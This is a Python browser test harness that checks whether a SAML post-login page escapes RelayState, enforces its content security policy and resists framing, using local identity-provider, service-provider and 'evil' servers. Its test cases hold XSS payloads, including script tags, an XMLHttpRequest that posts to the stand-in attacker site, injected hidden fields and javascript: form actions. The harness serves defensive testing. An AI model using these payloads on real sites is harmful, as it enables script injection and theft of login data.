"""Judge: headless Chromium posts what the page of `saml::post_page` holds, byte for byte, once, and runs no
script but the page's own.

    judge_browser.py POSTLOGIN

Every RelayState is opened twice: as the file of `postlogin run --post-page`, and served with its headers as
the example program `post_page` beside POSTLOGIN gives them. The service provider sends its user on to another
host, as many do. A page that the test spoils, the same value unescaped, must be seen to do harm; otherwise
nothing is proved.
"""

import html
import json
import re
import subprocess
import sys
import tempfile
import threading
import time
from base64 import b64encode
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qsl, urlencode

import authn_request
from browser import Browser, NotJudged, Tab, browser
from export import CERTS, DOMAIN, TENANT
from verdict import Refused, expect, one_line, shortened

SCRIPT = "HTMLFormElement.prototype.submit.call(document.forms[0])"
SR_30 = "\"><script>alert(1)</script>&amp;'"
LIMIT = 16 * 1024
ACS = "/acs?of=sp&lang=en"
# Long enough for what a page does by itself; nothing is waited for where something is expected.
A_WHILE = 0.3
# After so many checks that the browser did nothing in, it is not asked any more.
STUCK = 3
FILE, SERVED = "file", "served"
NONCE = "[0-9a-f]{32}"


@dataclass
class Request:
    site: str
    method: str
    path: str
    headers: dict[str, str]
    body: str


class Server(ThreadingHTTPServer):
    def handle_error(self, *about: object) -> None:
        """A browser that does not want an answer any more is no error."""
        if not isinstance(sys.exception(), ConnectionError):
            super().handle_error(*about)


class Site:
    """A web server that remembers what it is asked for. Its log is that of all sites."""

    def __init__(self, name: str, log: list[Request]):
        self.name = name
        self.pages: dict[str, tuple[int, dict[str, str], str]] = {}
        site = self

        class Handler(BaseHTTPRequestHandler):
            def answer(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length", 0))).decode()
                if self.path != "/favicon.ico":
                    log.append(Request(site.name, self.command, self.path, dict(self.headers), body))
                status, headers, text = site.pages.get(self.path.partition("?")[0], (404, {}, ""))
                self.send_response(status)
                for name, value in headers.items():
                    self.send_header(name, value)
                self.send_header("Content-Length", str(len(text.encode())))
                self.end_headers()
                self.wfile.write(text.encode())

            do_GET = do_POST = answer

            def log_message(self, *_: object) -> None:
                pass

        self.server = Server(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.origin = f"http://127.0.0.1:{self.port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def serve(self, path: str, text: str, headers: dict[str, str] | None = None) -> str:
        self.pages[path] = (200, headers or {"Content-Type": "text/html; charset=utf-8"}, text)
        return f"{self.origin}{path}?secret=of-the-login"


@dataclass
class Case:
    """A login: what is asked for, and by whom."""

    name: str
    relay_state: str = "here"
    # An Action that is run; `relay_state` is of the request otherwise.
    action: str = ""
    # The request's RelayState, where the Action sets another.
    requested: str | None = None
    # How a page that does not escape `relay_state` is told to be wrong.
    harm: str = ""
    # Whether the policy would stop that harm.
    policy_stops: bool = False
    status: int = 0
    page: str = ""
    saml: dict = field(default_factory=dict)


class World:
    """Issuer, service provider and somebody who means harm; a tenant that knows the service provider."""

    def __init__(self, postlogin: str, folder: Path, chromium: Browser):
        self.postlogin, self.folder, self.browser = postlogin, folder, chromium
        self.log: list[Request] = []
        self.idp, self.sp, self.evil = (Site(name, self.log) for name in ("idp", "sp", "evil"))
        self.acs_url = f"{self.sp.origin}{ACS}"
        self.landing = f"http://localhost:{self.sp.port}/landed"
        self.sp.pages["/acs"] = (303, {"Location": self.landing}, "")
        self.sp.serve("/landed", "<!doctype html><title>landed</title>logged in")
        self.example = subprocess.Popen(
            [Path(postlogin).parent / "examples/post_page"],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
        )
        self.tenant = folder / "tenant"
        (self.tenant / "clients").mkdir(parents=True)
        (self.tenant / "users.json").write_bytes((TENANT / "users.json").read_bytes())
        (self.tenant / "postlogin.toml").write_text(
            f'domain = "{DOMAIN}"\n[keys]\ncurrent = "{CERTS}/idp.key"\ncurrent_cert = "{CERTS}/idp.crt"\n'
        )
        client = {"name": "sp", "client_id": "sp", "callbacks": [self.acs_url], "addons": {"samlp": {}}}
        (self.tenant / "clients/sp.json").write_text(json.dumps(client))

    def close(self) -> None:
        self.example.stdin.close()
        self.example.wait()

    def log_in(self, case: Case) -> None:
        """The page and the result of `postlogin run`."""
        request = authn_request.plain(
            "_request", "https://sp.test", self.acs_url, f"https://{DOMAIN}/samlp/sp", None
        )
        relay_state = case.relay_state if case.requested is None else case.requested
        message = b64encode(authn_request.xml(request)).decode()
        body, page = self.folder / "request", self.folder / "page.html"
        body.write_text(urlencode({"SAMLRequest": message, "RelayState": relay_state}))
        page.unlink(missing_ok=True)
        command = [self.postlogin, "run", self.tenant, *"--client sp --user auth0|ada --format json".split()]
        command += ["--authn-request", body, "--post-page", page]
        if case.action:
            action = self.folder / "action.js"
            action.write_text(f"exports.onExecutePostLogin = async (event, api) => {{ {case.action} }};\n")
            command += ["--action", action]
        done = subprocess.run(command, capture_output=True, text=True)
        if done.returncode != case.status:
            raise NotJudged(f"postlogin ended with {done.returncode}: {done.stderr}")
        case.saml, case.page = json.loads(done.stdout)["saml"], page.read_bytes().decode()

    def page(self, url: str, message: str, relay_state: str | None, name: str = "SAMLResponse") -> dict:
        """What a server sends."""
        line = {"url": url, "field": name, "message": message, "relay_state": relay_state}
        self.example.stdin.write(json.dumps(line) + "\n")
        self.example.stdin.flush()
        return json.loads(self.example.stdout.readline())

    def as_file(self, text: str) -> str:
        path = self.folder / "opened.html"
        path.write_bytes(text.encode())
        return path.as_uri()

    @contextmanager
    def visit(self) -> Iterator[Tab]:
        self.log.clear()
        with self.browser.tab() as tab:
            yield tab

    def follow(self, tab: Tab, url: str) -> None:
        """Opens the page, and waits until the user is where the service provider sends them."""
        tab.call("Page.navigate", url=url)
        self.arrive(tab)

    def arrive(self, tab: Tab) -> None:
        answered = 0

        def is_there() -> bool:
            nonlocal answered
            for _ in tab.dialogs()[answered:]:
                answered += 1
                tab.call("Page.handleJavaScriptDialog", accept=True)
            return tab.has_loaded(self.landing)

        self.browser.wait("the landing on the page of the service provider", is_there)

    def posted(self) -> list[tuple[str, str, list[tuple[str, str]]]]:
        return [
            (request.site, request.path, fields(request)) for request in self.log if request.method == "POST"
        ]

    def expect_one_post(self, expected: list[tuple[str, str]]) -> Request:
        expect("requests of who means harm", [one.path for one in self.log if one.site == "evil"], [])
        posts = [request for request in self.log if request.method == "POST"]
        expect("where is posted", [(post.site, post.path) for post in posts], [("sp", ACS)])
        found = fields(posts[0])
        expect("names of the fields", [name for name, _ in found], [name for name, _ in expected])
        for (name, value), (_, wanted) in zip(found, expected, strict=True):
            if value != wanted:
                raise Refused(f"field {name} is {shortened(repr(value))}, not {shortened(repr(wanted))}")
        return posts[0]


def fields(request: Request) -> list[tuple[str, str]]:
    expect("type of what is posted", request.headers["Content-Type"], "application/x-www-form-urlencoded")
    return parse_qsl(request.body, keep_blank_values=True, strict_parsing=True, errors="strict")


def main(postlogin: str) -> int:
    with tempfile.TemporaryDirectory() as folder, browser() as chromium:
        world = World(postlogin, Path(folder), chromium)
        checks = list(all_checks(world))
        passed = failed = stuck = 0
        for title, check in checks:
            try:
                note = check() or ""
            except (Refused, NotJudged) as reason:
                failed += isinstance(reason, Refused)
                stuck += isinstance(reason, NotJudged)
                print(f"FAILED  browser       {title}: {shortened(one_line(str(reason)))}")
            else:
                passed += 1
                print(f"ok      browser       {title}{note}")
            if stuck == STUCK:  # it would take minutes to say the same of all others
                break
        world.close()
    print(f"{passed} passed, {failed} failed, {len(checks) - passed - failed} not judged")
    return 0 if passed == len(checks) else 1


def all_checks(world: World) -> Iterator[tuple[str, Callable[[], str | None]]]:
    for case in cases(world):
        yield f"{case.name}: postlogin writes its page", lambda case=case: world.log_in(case)
        for way in (FILE, SERVED):
            yield f"{case.name}, {way}", lambda case=case, way=way: arrives(world, case, way)
            if case.harm:
                title = f"{case.name}, {way}, not escaped: is seen"
                yield title, lambda case=case, way=way: harm_is_seen(world, case, way)
        if case.policy_stops:
            yield (
                f"{case.name}, not escaped: the policy stops it",
                lambda case=case: policy_stops(world, case),
            )
    for way in (FILE, SERVED):
        yield f"no scripts, {way}: the button posts", lambda way=way: button_posts(world, way)
    yield "logout, served: no RelayState", lambda: logout_posts(world)
    yield "framed: nothing is posted", lambda: framed(world, is_stopped=True)
    yield "framed, without the headers: is seen", lambda: framed(world, is_stopped=False)
    yield "a policy of the one URL would stop at the redirect", lambda: narrow_policy(world)
    for text in ("one\ntwo", "one\rtwo", "one\0two"):
        yield f"RelayState {text!r}: refused, and would be changed", lambda text=text: is_changed(world, text)
    yield "action javascript: is refused, and would run", lambda: script_url(world)


def cases(world: World) -> list[Case]:
    evil = f"{world.evil.origin}/evil"
    asked = f"x=new XMLHttpRequest;x.open('POST','{evil}',false);try{{x.send()}}catch(e){{}}"
    from_action = "api.samlResponse.setRelayState({});"
    quoted = f"'\"></form></title></noscript><script src={evil}></script>"
    return [
        Case("SR-30", SR_30, harm="dialogs", policy_stops=True),
        Case("SO-14", SR_30, from_action.format(json.dumps(SR_30)), "of the request", "dialogs"),
        Case(
            "SO-14, script of another site",
            quoted,
            from_action.format(json.dumps(quoted)),
            "",
            "who means harm",
            True,
        ),
        Case(
            "script that asks at once",
            f'"><script>{asked}</script>',
            harm="who means harm",
            policy_stops=True,
        ),
        Case("another field", '"><input type="hidden" name="RelayState" value="', harm="names of the fields"),
        Case(
            "field named submit", '"><input type="hidden" name="submit" value="', harm="names of the fields"
        ),
        Case("character references", "&lt;&#34;&amp;amp;&quot &copy=1 &#x41;", harm="field RelayState"),
        Case("escapes of a form", " a+b%41%0d%0a&SAMLResponse=x=\t ;"),
        Case("letters", "\u00e9e\u0301 \u05d0\u05d1 \u202e\u200f \U0001f511 \u4e2d \u00df\u1e9e\ufb01"),
        Case("line ends of other standards", "\u0085\u2028\u2029\u000b\u000c and CR LF \r\n\r\n"),
        Case("controls", "".join(map(chr, [*range(1, 10), *range(14, 32), *range(127, 160)]))),
        Case("characters that are none", "\ufeff\ufffe\uffff\ufdd0\U0001ffff\U0010ffff\ufffd\ue000"),
        Case("16 KiB", (SR_30 * LIMIT)[:LIMIT]),
        Case("empty", ""),
        Case("refused login", SR_30, "api.access.deny('<script>alert(1)</script>');", status=3),
        *(
            Case(f"SO-13, {setter}, another host", action=f"api.samlResponse.{setter}({json.dumps(evil)});")
            for setter in ("setDestination", "setRecipient")
        ),
    ]


def arrives(world: World, case: Case, way: str) -> None:
    """What is posted is what was issued, and nothing else happens."""
    if not case.saml:
        raise NotJudged("there is no page")
    expect("saml.acs_url", case.saml["acs_url"], world.acs_url)
    expect("saml.relay_state", case.saml["relay_state"], case.relay_state)
    judge(world, case, opened(world, case, way), way)


def opened(world: World, case: Case, way: str) -> str:
    """Where the page is to be opened."""
    if way == FILE:
        return world.as_file(case.page)
    sent = world.page(case.saml["acs_url"], case.saml["response"], case.saml["relay_state"])
    expect("page of the server", re.sub(NONCE, "", sent["html"]), re.sub(NONCE, "", case.page))
    expect("Cache-Control", sent["headers"]["Cache-Control"], "no-store")
    return world.idp.serve("/samlp", sent["html"], sent["headers"])


def judge(world: World, case: Case, url: str, way: str) -> None:
    with world.visit() as tab:
        world.follow(tab, url)
        expect("dialogs", tab.dialogs(), [])
        wanted = [("SAMLResponse", case.saml["response"]), ("RelayState", case.relay_state)]
        post = world.expect_one_post(wanted)
        expect("lengths of the scripts", tab.scripts(), [len(SCRIPT)])
        expect("violations of the policy", tab.violations(), [])
        entries = tab.call("Page.getNavigationHistory")["entries"]
        expect("history", [entry["url"] for entry in entries], ["about:blank", world.landing])
    # Whom the service provider sees; nothing of path and query.
    origin = world.idp.origin if way == SERVED else None
    expect("Origin", post.headers.get("Origin"), origin or "null")
    expect("Referer", post.headers.get("Referer"), origin and f"{origin}/")


def spoilt(case: Case, text: str, *, keeps_policy: bool) -> str:
    """The page with RelayState as it is between its quotes."""
    escaped = html.escape(case.relay_state).replace("&#x27;", "&#39;")
    before, found, after = text.partition(f'value="{escaped}"')
    if not found:
        raise Refused("RelayState is not where it is spoilt")
    if not keeps_policy:
        before = re.sub("<meta http-equiv=[^>]*>", "", before)
    return f'{before}value="{case.relay_state}"{after}'


def harm_is_seen(world: World, case: Case, way: str) -> str:
    text = spoilt(case, case.page, keeps_policy=False)
    url = world.as_file(text) if way == FILE else world.idp.serve("/samlp", text)
    try:
        judge(world, case, url, way)
    except Refused as reason:
        if case.harm not in str(reason):
            raise Refused(f"{reason}; not for {case.harm}") from reason
        return f": {shortened(one_line(str(reason)))}"
    raise Refused("the harm was not seen")


def policy_stops(world: World, case: Case) -> None:
    """The second line: even so no script runs, and the browser says why. What is posted is spoilt."""
    with world.visit() as tab:
        world.follow(tab, world.as_file(spoilt(case, case.page, keeps_policy=True)))
        expect("dialogs", tab.dialogs(), [])
        expect("requests of who means harm", [one.path for one in world.log if one.site == "evil"], [])
        expect("lengths of the scripts", tab.scripts(), [len(SCRIPT)])
        expect("violations of the policy", set(tab.violations()), {"script-src-elem"})


def button_posts(world: World, way: str) -> None:
    case = Case("no scripts", SR_30)
    world.log_in(case)
    with world.visit() as tab:
        tab.call("Emulation.setScriptExecutionDisabled", value=True)
        tab.call("Page.navigate", url=opened(world, case, way))
        world.browser.wait("the page", lambda: bool(tab.told("Page.loadEventFired")))
        time.sleep(A_WHILE)
        expect("what is posted before anybody does something", world.posted(), [])
        nodes = tab.call("Accessibility.getFullAXTree")["nodes"]
        named = [
            (node["role"]["value"], node.get("name", {}).get("value"))
            for node in nodes
            if node.get("role", {}).get("value") in ("RootWebArea", "button", "textbox", "link")
        ]
        name = f"Continue to 127.0.0.1:{world.sp.port}"
        expect("what assistive software is told", named, [("RootWebArea", name), ("button", name)])
        tab.press("Tab", 9)
        tab.press("Enter", 13, "\r")
        world.arrive(tab)
        world.expect_one_post([("SAMLResponse", case.saml["response"]), ("RelayState", SR_30)])
        expect("lengths of the scripts", tab.scripts(), [])


def logout_posts(world: World) -> None:
    for name in ("SAMLRequest", "SAMLResponse"):
        sent = world.page(world.acs_url, "PGE+PC9hPg==", None, name)
        with world.visit() as tab:
            world.follow(tab, world.idp.serve("/logout", sent["html"], sent["headers"]))
            world.expect_one_post([(name, "PGE+PC9hPg==")])


def framed(world: World, *, is_stopped: bool) -> None:
    sent = world.page(world.acs_url, "PGE+PC9hPg==", "here")
    url = world.idp.serve("/samlp", sent["html"], sent["headers"] if is_stopped else None)
    frame = world.evil.serve("/frame", f'<!doctype html><iframe src="{html.escape(url)}"></iframe>')
    with world.visit() as tab:
        tab.call("Page.navigate", url=frame)
        if not is_stopped:
            return world.browser.wait("the landing", lambda: world.log[-1].path == "/landed")
        world.browser.wait("the violation", lambda: bool(tab.violations()))
        time.sleep(A_WHILE)
        expect("violations of the policy", tab.violations(), ["frame-ancestors"])
        expect("what is posted", world.posted(), [])


def narrow_policy(world: World) -> None:
    sent = world.page(world.acs_url, "PGE+PC9hPg==", "here")
    wide = "form-action http: https:"
    for text in (sent["html"], sent["headers"]["Content-Security-Policy"]):
        expect("number of form-action", text.count(wide), 1)
    narrow = sent["html"].replace(wide, f"form-action {world.acs_url.partition('?')[0]}")
    with world.visit() as tab:
        tab.call("Page.navigate", url=world.idp.serve("/samlp", narrow))
        world.browser.wait("the violation", lambda: bool(tab.violations()))
        time.sleep(A_WHILE)
        expect("violations of the policy", tab.violations(), ["form-action"])
        expect("what was asked for", [one.site for one in world.log], ["idp", "sp"])
        expect("what is posted", [path for _, path, _ in world.posted()], [ACS])


def is_changed(world: World, text: str) -> str:
    told = world.page(world.acs_url, "PGE+PC9hPg==", text)
    if "RelayState cannot be posted as it is" not in told.get("not_postable", ""):
        raise Refused(f"it is not refused: {told}")
    references = "".join(one if one.isalnum() else f"&#{ord(one)};" for one in text)
    page = (
        f'<!doctype html><form method=post action="{html.escape(world.acs_url)}">'
        f'<input type=hidden name=RelayState value="{references}"></form><script>{SCRIPT}</script>'
    )
    with world.visit() as tab:
        world.follow(tab, world.idp.serve("/by-hand", page))
        posted = world.posted()
        if posted == [("sp", ACS, [("RelayState", text)])]:
            raise Refused("the browser would post it as it is")
        return f": {posted}"


def script_url(world: World) -> None:
    told = world.page("javascript:alert(1)", "PGE+PC9hPg==", "here")
    if "is no http or https URL" not in told.get("not_postable", ""):
        raise Refused(f"it is not refused: {told}")
    page = f"<!doctype html><form method=post action=javascript:alert(1)></form><script>{SCRIPT}</script>"
    with world.visit() as tab:
        tab.call("Page.navigate", url=world.idp.serve("/by-hand", page))
        world.browser.wait("the dialog", lambda: bool(tab.dialogs()))
        tab.call("Page.handleJavaScriptDialog", accept=True)


if __name__ == "__main__":
    sys.exit(main(str(Path(sys.argv[1]).resolve())))
